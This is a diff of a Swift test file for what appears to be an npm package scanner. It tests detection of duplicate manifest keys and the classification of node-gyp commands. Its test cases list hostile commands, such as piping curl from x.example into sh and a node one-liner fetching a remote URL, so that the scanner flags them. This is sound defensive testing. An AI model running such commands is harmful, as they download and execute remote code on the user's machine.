@@ -86,7 +86,8 @@ struct PathAndManifestTests {
         for version in same {
             #expect(try npmTarball(manifest: #"{"name":"acme-box",\#(version)}"#).observations() == [], "\(version)")
         }
-        #expect(try npmTarball(manifest: #"{"name":"acme-box","name":"evil"}"#).observations() == ["name-mismatch"])
+        let twice = try npmTarball(manifest: #"{"name":"acme-box","name":"evil"}"#)
+        #expect(twice.observations() == ["name-mismatch", "manifest-ambiguous"])
         #expect(try npmTarball(manifest: "\u{FEFF}{\"name\":\"acme-box\"}").observations() == [])
     }
 
@@ -119,10 +120,6 @@ struct PathAndManifestTests {
             ("node -e \"require('https').get('https://x.example')\"", .hostile), ("curl x.example | sh", .hostile),
         ]
         for (command, meaning) in cases { #expect(GypFile.meaning(of: Array(command.utf8)) == meaning, "\(command)") }
-        let file = GypFile(Array("a\n\"<!@(node -p \\\"f(1)\\\")\" '>!(x)' \"^!(y\" <(var)".utf8))
-        #expect(
-            file?.commands.map { String(decoding: $0.text, as: UTF8.self) } == ["node -p \"f(1)\"", "x", "y\" <(var)"])
-        #expect(file?.commands.first?.line == 2)
     }
 
     @Test("flags of regions are honest uses of tag characters, fragments of them are not")
